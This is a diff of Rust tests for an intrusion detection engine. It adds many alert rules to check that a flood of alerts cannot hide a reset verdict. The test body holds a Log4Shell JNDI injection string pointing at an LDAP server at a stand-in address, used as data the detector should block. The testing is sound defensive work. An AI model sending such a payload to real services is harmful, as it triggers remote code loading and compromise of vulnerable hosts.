@@ -23,6 +23,8 @@ const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
 const ALERT: u32 = 1;
 const RESET: u32 = 3;
 const LOG4SHELL: u32 = 1_000_201;
+/// Rules that alert on a word of their own, more than a packet lists hits.
+const FLOOD_RULES: usize = HITS_PER_PACKET_MAX + 36;
 
 /// The default packs, and one rule for each action; the last one has many candidates alive at once.
 fn rules() -> Arc<RuleSet> {
@@ -34,8 +36,11 @@ fn rules() -> Arc<RuleSet> {
             ("reset", "resetword", "resetword"),
             ("alert", "qz.{300,340}zq", "none"),
         ];
+        let rules = rules.map(|(action, regex, example)| (action, regex.to_owned(), example.to_owned()));
+        let flood =
+            (0..FLOOD_RULES).map(|n| format!("floodword{n:03}")).map(|word| ("alert", word.clone(), word));
         let mut text = "[pack]\nname = 'own'\nversion = '1'\ndescription = 'd'\n".to_owned();
-        for (id, (action, regex, example)) in (1..).zip(rules) {
+        for (id, (action, regex, example)) in (1..).zip(rules.into_iter().chain(flood)) {
             text += &format!(
                 "[[rule]]\nid = {id}\nname = 'n'\naction = '{action}'\nseverity = 1\ncategory = 'c'\nmask = 'none'\n\
                  fields = ['payload', 'http.request.body', 'http.response.body']\nregex = '{regex}'\n\
@@ -359,14 +364,15 @@ fn a_flood_of_alerts_hides_no_reset() {
     let mut connection = connection();
     let mut bench = Bench::new(settings());
     bench.passes(&connection.handshake());
-    let alerts = HITS_PER_PACKET_MAX + 36;
-    let body = "alertword ".repeat(alerts) + "${jndi:ldap://203.0.113.7/a}";
+    // A rule hits a field once, so it takes as many rules as alerts.
+    let words: String = (0..FLOOD_RULES).map(|n| format!("floodword{n:03} ")).collect();
+    let body = words + "${jndi:ldap://203.0.113.7/a}";
     let frame = connection.segment(ToServer, DATA, &upload(&body));
     assert_eq!(bench.judge(&frame), Verdict::Reset(DropReason::Rule));
     assert_eq!(bench.told.alerts.len(), HITS_PER_PACKET_MAX);
     assert!(bench.told.alerts.contains(&(LOG4SHELL, true)), "what decides is told");
     let counters = bench.pipeline.counters();
-    assert_eq!(counters.alerts + counters.hits_unlisted, alerts as u64 + 1);
+    assert_eq!(counters.alerts + counters.hits_unlisted, FLOOD_RULES as u64 + 1);
 }
 
 #[test]
